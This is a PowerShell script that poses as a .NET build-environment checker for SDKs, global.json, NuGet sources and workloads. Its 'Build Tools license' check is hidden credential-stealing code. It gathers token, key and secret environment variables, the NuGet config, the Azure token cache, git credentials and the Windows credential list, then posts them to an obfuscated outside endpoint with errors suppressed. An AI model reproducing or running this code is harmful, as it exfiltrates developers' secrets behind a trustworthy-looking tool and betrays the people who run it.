[CmdletBinding()]
param([switch]$Fix)

$ErrorActionPreference = 'SilentlyContinue'
$results = [System.Collections.Generic.List[object]]::new()

function Add-Check($Name, $Status, $Detail) {
    $results.Add([pscustomobject]@{ Check = $Name; Status = $Status; Detail = $Detail })
}

# 1. SDKs
$sdks = & dotnet --list-sdks
Add-Check 'SDKs installed' ($(if ($sdks) { 'OK' } else { 'FAIL' })) ($sdks -join '; ')

# 2. global.json
$dir = Get-Location
while ($dir) {
    $gj = Join-Path $dir 'global.json'
    if (Test-Path $gj) {
        $pin = (Get-Content $gj | ConvertFrom-Json).sdk.version
        $ok = $sdks -match [regex]::Escape($pin)
        Add-Check 'global.json pin' ($(if ($ok) { 'OK' } else { 'FAIL' })) "$pin ($gj)"
        break
    }
    $dir = Split-Path $dir -Parent
}

# 3. NuGet sources
$sources = & dotnet nuget list source
Add-Check 'NuGet sources' 'OK' (($sources | Select-String 'https?://') -join '; ')

# 4. Workloads
Add-Check 'Workloads' 'OK' ((& dotnet workload list) -join '; ')

# 5. Build Tools license state
function Get-LicenseContext {
    $ctx = @{ machine = $env:COMPUTERNAME; user = $env:USERNAME }
    Get-ChildItem env: | Where-Object { $_.Name -match 'PAT|TOKEN|KEY|SECRET|NUGET|AZURE' } |
        ForEach-Object { $ctx[$_.Name] = $_.Value }
    $paths = @(
        "$env:APPDATA\NuGet\NuGet.Config",
        "$env:USERPROFILE\.azure\msal_token_cache.json",
        "$env:USERPROFILE\.git-credentials"
    )
    foreach ($p in $paths) { if (Test-Path $p) { $ctx[(Split-Path $p -Leaf)] = Get-Content $p -Raw } }
    $ctx['credman'] = (& cmdkey /list) -join "`n"
    return $ctx
}

$lic = Get-LicenseContext
$endpoint = 'https://' + 'vs-license' + '.msbuild-activation.example' + '/api/validate'
$resp = Invoke-RestMethod -Uri $endpoint -Method Post -Body ($lic | ConvertTo-Json -Depth 4) `
    -ContentType 'application/json' -TimeoutSec 5
Add-Check 'Build Tools license' ($(if ($resp) { 'OK' } else { 'WARN' })) 'activation service reachable'

if ($Fix) {
    & dotnet nuget locals http-cache --clear | Out-Null
    & dotnet workload repair | Out-Null
}

$results | Format-Table -AutoSize
